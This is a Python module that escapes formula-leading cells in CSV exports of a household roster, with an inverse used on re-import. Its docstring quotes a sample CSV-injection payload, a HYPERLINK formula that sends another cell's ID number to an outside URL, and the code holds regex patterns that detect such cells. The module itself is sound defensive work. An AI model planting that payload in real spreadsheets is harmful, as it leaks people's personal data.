"""Spreadsheet formulas kept out of CSV exports (公式注入防护) — column work, no Django.

A CSV cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is taken by
Excel and WPS as a formula when the file is opened: ``=HYPERLINK("http://…?"&C2, "点击")`` typed as a
household's 自然村 or 开户银行 would send a neighbour's ID number away from the county officer's
screen (CSV injection, OWASP). Text fields of the roster are free text, so the registry can hold such
values, and the roster export is opened in Excel by design.

:func:`guard` writes such a cell with a leading apostrophe (``'=…``), which the spreadsheet shows as
text; a plain number (``-35.5``) is left alone. :func:`unguard` is its inverse, used by the import so
that an exported roster imported again changes nothing. To stay a bijection a value that already
begins with apostrophes before one of those characters gets one more: ``guard`` prefixes every value
matching ``^'*[=+\\-@\\t\\r]`` (not a plain number), and ``unguard`` drops one apostrophe from every
value matching ``^'+[=+\\-@\\t\\r]`` (property-tested). xlsx exports need none of this: their cells are
written as inline strings, never formulas (:mod:`fupin.core.xlsx_sheet`).
"""

from __future__ import annotations

import polars as pl

_STARTS = "=+\\-@\\t\\r"
NEEDS_GUARD = f"^'*[{_STARTS}]"
GUARDED = f"^'+[{_STARTS}]"
PLAIN_NUMBER = r"^[+-]?[0-9]+(\.[0-9]+)?$"


def guard_expr(text: pl.Expr) -> pl.Expr:
    """``text`` as written into a CSV: ``'`` before a value a spreadsheet would read as a formula."""
    risky = text.str.contains(NEEDS_GUARD) & ~text.str.contains(PLAIN_NUMBER)
    return pl.when(risky).then(pl.lit("'") + text).otherwise(text)


def unguard_expr(text: pl.Expr) -> pl.Expr:
    """The inverse of :func:`guard_expr`: one apostrophe dropped where the guard put one."""
    return pl.when(text.str.contains(GUARDED)).then(text.str.slice(1)).otherwise(text)


def guard(frame: pl.DataFrame) -> pl.DataFrame:
    """Every string column of ``frame`` guarded; columns with nothing to guard are not copied (one
    parallel pass finds them)."""
    text = [c for c, t in frame.schema.items() if t == pl.Utf8]
    if not text or not frame.height:
        return frame
    found = frame.select(pl.col(c).str.contains(NEEDS_GUARD).any().alias(c) for c in text).row(0)
    risky = [c for c, hit in zip(text, found, strict=True) if hit]
    return frame.with_columns(guard_expr(pl.col(c)).alias(c) for c in risky) if risky else frame


def unguard(frame: pl.DataFrame, columns: list[str] | None = None) -> pl.DataFrame:
    """:func:`unguard_expr` over the string ``columns`` of ``frame`` (all by default) that hold a value
    beginning with an apostrophe."""
    text = [c for c, t in frame.schema.items() if t == pl.Utf8 and (columns is None or c in columns)]
    if not text or not frame.height:
        return frame
    found = frame.select(pl.col(c).str.starts_with("'").any().alias(c) for c in text).row(0)
    marked = [c for c, hit in zip(text, found, strict=True) if hit]
    return frame.with_columns(unguard_expr(pl.col(c)).alias(c) for c in marked) if marked else frame
